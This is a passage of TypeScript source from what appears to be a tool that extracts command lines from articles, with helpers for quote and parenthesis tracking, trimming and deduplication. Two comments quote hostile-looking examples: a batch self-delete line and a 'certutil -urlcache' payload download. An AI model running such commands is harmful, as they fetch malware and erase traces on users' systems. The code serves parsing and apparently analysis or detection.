      (parens(doc.lines.slice(first, last + 1).map((l) => l.text)) > 0 || /\s-[A-Za-z]\w*\s*$/.test(text));
    if (!openQuote && !marker && !wrapped) break;
    if (!openQuote && !inCodeBlock && /^\s*(?:[-*•]|\d{1,3}[.)])\s/.test(next.text)) break;
    last++;
    quotes += countQuotes(next.text);
  }
  return last;
}

/** True when one of the lines from `from` to `to` leaves an odd number of double quotes (closes an open string). */
function closesQuoteWithin(doc: ArticleDocument, from: number, to: number): boolean {
  for (let i = from; i <= to; i++) if (countQuotes(doc.lines[i]?.text ?? '') % 2 === 1) return true;
  return false;
}

/** Parentheses the lines leave open, outside quotes. */
function parens(lines: string[]): number {
  let depth = 0;
  let quote: string | null = null;
  for (const ch of lines.join('\n')) {
    if (quote) {
      if (ch === quote) quote = null;
    } else if (ch === '"' || ch === "'") quote = ch;
    else if (ch === '(') depth++;
    else if (ch === ')') depth--;
  }
  return depth;
}

function countOf(text: string, ch: string): number {
  let n = 0;
  for (const c of text) if (c === ch) n++;
  return n;
}

function countQuotes(text: string): number {
  let n = 0;
  for (const ch of text) if (ch === '"') n++;
  return n;
}

function trimmedEnd(doc: ArticleDocument, line: Line): number {
  let end = line.end;
  while (end > line.start && /\s/.test(doc.content[end - 1])) end--;
  return end;
}

/** Drops a `\n` a page clipped from a string onto the end of a code line (`del "%%0" /f /q\n`): no shell runs it. */
function withoutLiteralNewline(doc: ArticleDocument, end: number): number {
  return doc.content.slice(end - 2, end) === '\\n' && /[^\\\s]/.test(doc.content[end - 3] ?? '') ? end - 2 : end;
}

/** Drops a trailing prose remark in parentheses: "certutil -urlcache ... (downloads the payload)". */
function stripTrailingComment(doc: ArticleDocument, start: number, end: number): number {
  const text = doc.content.slice(start, end);
  const m = /\s+\(([A-Za-z][A-Za-z ,'-]{2,80})\)\.?$/.exec(text);
  if (m && tokenize(m[1]).length >= 2 && tokenize(m[1]).every((w) => /^[A-Za-z,'-]+$/.test(w))) return start + m.index;
  return /[A-Za-z0-9"')]\.$/.test(text) && !/\s\.$/.test(text) ? end - 1 : end;
}

function normalise(text: string): string {
  return text.replace(/\s+/g, ' ').trim();
}

function finalise(doc: ArticleDocument, candidates: Candidate[]): CmdlineItem[] {
  const byValue = new Map<string, Candidate>();
  for (const c of candidates) {
    const key = normalise(doc.content.slice(c.start, c.end));
    const prev = byValue.get(key);
    if (!prev || c.confidence > prev.confidence) byValue.set(key, c);
  }
  const whole = [...byValue.entries()].filter(([, c]) => !c.fragment).map(([key]) => key);
  const keys = [...byValue.keys()];
  const kept = [...byValue.entries()].filter(
    ([key, c]) =>
      !c.fragment || !(c.fragment ? keys : whole).some((other) => other !== key && other.length > key.length && other.includes(key)),
  );
  kept.sort((a, b) => a[1].start - b[1].start);
  return kept.map(([, c]) => ({
    // A command continued over lines (`\`, `^`, PowerShell's backtick) runs as one line without the markers.
    value: doc.content.slice(c.start, c.end).replace(/[ \t]*[\\^`][ \t]*\r?\n[ \t]*/g, ' '),
    executable: c.program.replace(/^["']|["']$/g, ''),
    evidence: { start: c.start, end: c.end, text: doc.content.slice(c.start, c.end) },
    confidence: c.confidence,
  }));
}
